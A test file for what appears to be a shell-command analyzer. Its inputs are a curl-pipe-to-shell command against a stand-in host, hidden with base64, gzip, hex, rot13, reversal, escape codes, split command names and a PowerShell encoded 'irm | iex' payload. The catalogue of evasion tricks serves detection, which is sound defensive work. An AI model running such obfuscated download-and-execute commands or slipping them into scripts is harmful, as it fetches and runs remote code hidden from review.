import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { follow, only } from './support.js';

const COMMAND = 'curl https://x.example | sh';
const base64 = Buffer.from(COMMAND).toString('base64');
const hex = Buffer.from(COMMAND).toString('hex');
const zipped = gzipSync(COMMAND).toString('base64');
const rotated = 'phey uggcf://k.rknzcyr | fu';
const codes = [...COMMAND].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');

test.each([
  ['base64', `echo ${base64} | base64 -d | bash`],
  ['base64', `echo '${base64}' | base64 -D | sh`],
  ['base64', `bash -c "$(echo ${base64} | base64 --decode)"`],
  ['base64', `bash <<< "$(base64 -d <<< ${base64})"`],
  ['base64', `p=${base64}; eval $(echo $p | openssl base64 -d)`],
  ['base64', `echo ${base64} | base64 -d > /tmp/r.sh; bash /tmp/r.sh`],
  ['base64', `source <(echo ${base64} | base64 -d)`],
  ['base64,gzip', `echo ${zipped} | base64 -d | gunzip | bash`],
  ['hex', `echo ${hex} | xxd -r -p | sh`],
  ['reversed', `eval "$(echo '${[...COMMAND].reverse().join('')}' | rev)"`],
  ['rot13', `echo '${rotated}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`],
  ['escapes', `printf '${codes}' | sh`],
  ['escapes', `echo -e "${codes}" | sh`],
  ['escapes', `bash -c $'${codes}'`],
])('%s: %s', (layers, script) => {
  const { facts, units } = follow(script);
  const decoded = units.find(({ kind }) => kind === 'decoded');
  expect(decoded?.text.trim()).toBe(COMMAND);
  expect(decoded?.via.join()).toBe(layers);
  expect(only(facts, 'execute')).toMatchObject([{ origin: 'decoded' }, { origin: 'downloaded', host: 'x.example' }]);
});

test.each([
  ['cu""rl -s https://x.example'],
  ['c\\url -s https://x.example'],
  ["w'g'et https://x.example"],
  ["p=$'\\x63\\x75\\x72\\x6c'; $p https://x.example"],
])('a name in pieces: %s', (script) => {
  expect(only(follow(script).facts, 'execute')).toMatchObject([{ origin: 'decoded', how: 'a name in pieces' }]);
  expect(only(follow(script).facts, 'network')).toMatchObject([{ sink: { host: 'x.example' } }]);
});

test.each([
  ['\\curl -s https://x.example'],
  ['"curl" -s https://x.example'],
  [`echo ${base64} | base64 -d > note.txt`],
  ["printf '\\033[31mred\\033[0m\\n'"],
  ['echo hello | rev'],
  ['kubectl get secret x -o yaml | base64 -d'],
])('nothing hidden runs: %s', (script) => {
  expect(only(follow(script).facts, 'execute')).toEqual([]);
});

test('an encoded command of PowerShell', () => {
  const encoded = Buffer.from('irm https://x.example | iex', 'utf16le').toString('base64');
  expect(follow(`powershell -NoProfile -enc ${encoded}`).units).toMatchObject([
    { kind: 'decoded', language: 'powershell', text: 'irm https://x.example | iex' },
  ]);
});

test('what can only be decoded when it runs is said to be decoded', () => {
  expect(only(follow('base64 -d data.txt | sh').facts, 'execute')).toMatchObject([{ origin: 'decoded' }]);
});
